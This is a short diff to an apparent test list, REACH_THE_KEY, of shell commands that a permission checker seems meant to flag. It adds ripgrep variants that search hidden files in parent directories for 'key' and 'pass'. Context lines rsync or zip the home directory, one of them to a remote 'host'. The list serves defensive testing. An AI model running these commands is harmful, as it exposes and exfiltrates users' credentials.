@@ -82,10 +82,12 @@ REACH_THE_KEY = [
     "rsync -avz ~ host:/tmp",
     "zip -r x.zip ~",
     "rg -uu key ~",
-    "rg key ..",
+    "rg --hidden key ..",
+    "rg -. key ..",
+    "rg -g '*' key ..",
     "diff -r ~ /tmp",
     "cd .. && grep -r pass .",
-    "cd .. && rg pass",  # no directory given: the working directory is searched
+    "cd .. && rg -uu pass",  # no directory given: the working directory is searched
     "cd ~ && grep -r pass",
     "/usr/bin/grep -r pass ~",
     "true && grep -r pass ~ | head",
